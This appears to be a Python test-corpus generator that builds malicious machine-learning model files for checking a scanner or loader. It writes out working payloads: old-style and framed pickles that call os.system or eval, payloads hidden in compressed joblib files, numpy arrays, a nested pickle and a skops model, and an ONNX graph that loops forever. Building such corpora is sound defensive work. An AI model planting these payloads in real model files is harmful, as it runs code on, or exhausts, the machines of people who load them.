"""Hostile files that are no plain pickles: old, packed, of other formats."""

import io
import lzma
import pickle
import struct
import zipfile
import zlib
from functools import partial

import numpy as np
import skops.io
from joblib.numpy_pickle import NumpyArrayWrapper
from numpy.testing import measure
from onnx import TensorProto, helper
from sklearn.linear_model import LogisticRegression

from assembler import CODE, COMMAND, Code, Payload, call, name, put, whole

TOUCH = whole(call("os:system", COMMAND))


def framed():
    """Yield Payloads in old, broken or odd streams."""

    def payload(title, about, data, **more):
        return Payload(title, "framing", about, data, **more)

    old = b"cos\nsystem\n(S'touch PWNED'\ntR."
    yield payload("protocol 0", "GLOBAL, in plain text", old)
    old = b"(S'touch PWNED'\nios\nsystem\n."
    yield payload("INST", "the oldest way to call", old)
    old = b"(cos\nsystem\nS'touch PWNED'\no."
    yield payload("OBJ", "the second oldest way to call", old)
    old = b"c__builtin__\neval\n" + put((CODE,)) + b"R."
    yield payload("Python 2 name", "__builtin__ is mapped", old)
    cut = TOUCH[:-1] + b"0\xff\xff\xff"
    yield payload("broken stream", "runs, then ends in garbage", cut)
    yield payload(
        "import",
        "names a module that lies beside the file",
        whole(name("beside:x")),
        beside={"beside.py": f"{CODE}\nx = 1\n".encode()},
    )


def containers():
    """Yield Payloads in compressed files and arrays of objects."""

    def payload(title, about, data, suffix, **more):
        return Payload(title, "container", about, data, "ran", suffix, **more)

    data = zlib.compress(TOUCH)
    yield payload("joblib zlib", "compressed", data, "joblib")
    data = lzma.compress(TOUCH, format=lzma.FORMAT_ALONE)
    yield payload("joblib lzma", "compressed", data, "joblib")
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header = header.ljust(117) + b"\n"
    npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + TOUCH
    yield payload("npy", "an array of objects", npy, "npy")
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("a.npy", npy)
    yield payload("npz", "an array of objects", archive.getvalue(), "npz")
    yes = Code(pickle.NEWTRUE)
    yield payload(
        "numpy.load",
        "loads a second file beside it",
        whole(call("numpy:load", "second.npy", None, yes)),
        "pkl",
        beside={"second.npy": TOUCH},
    )
    wrapper = NumpyArrayWrapper(np.ndarray, (1,), "C", np.dtype("O"))
    # Without its STOP, the inner pickle stands where joblib reads the array.
    data = pickle.dumps(wrapper, protocol=3)[:-1] + TOUCH + pickle.STOP
    yield payload("joblib inner", "a pickle within the pickle", data, "joblib")


def skops_files():
    """Yield Payloads in skops' format, which is not a pickle."""
    model = LogisticRegression()
    vars(model)["predict"] = partial(measure, CODE, 1)
    yield Payload(
        "skops",
        "other format",
        "its predict() runs code",
        skops.io.dumps(model),
        suffix="skops",
    )


def onnx_files():
    """Yield Payloads in ONNX, which is not a pickle."""

    def value(name, kind=TensorProto.FLOAT, shape=(None, 4)):
        return helper.make_tensor_value_info(name, kind, shape)

    def graph(node, given, made, constants=()):
        return helper.make_graph([node], "endless", given, made, constants)

    go = value("go", TensorProto.BOOL, ())
    given = [value("i", TensorProto.INT64, ()), go, value("A")]
    keep = helper.make_node("Identity", ["A"], ["B"])
    body = graph(keep, given, [go, value("B")])
    loop = helper.make_node("Loop", ["", "yes", "X"], ["Y"], body=body)
    yes = helper.make_tensor("yes", TensorProto.BOOL, [], [True])
    main = graph(loop, [value("X")], [value("Y")], [yes])
    opsets = [helper.make_opsetid("", 17)]
    model = helper.make_model(main, opset_imports=opsets, ir_version=8)
    yield Payload(
        "onnx",
        "other format",
        "its calculation never ends",
        model.SerializeToString(),
        effect="exhausted",
        suffix="onnx",
    )


def corpus():
    """Yield the Payloads."""
    yield from framed()
    yield from containers()
    yield from skops_files()
    yield from onnx_files()
